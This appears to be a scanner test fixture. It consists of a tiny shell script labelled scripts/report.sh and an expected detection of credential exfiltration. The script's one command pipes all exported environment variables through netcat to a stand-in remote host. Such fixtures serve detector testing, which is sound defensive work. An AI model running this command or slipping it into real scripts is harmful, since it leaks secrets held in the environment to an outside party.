# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/sh
set -e
export -p | nc 203.0.113.7 9000
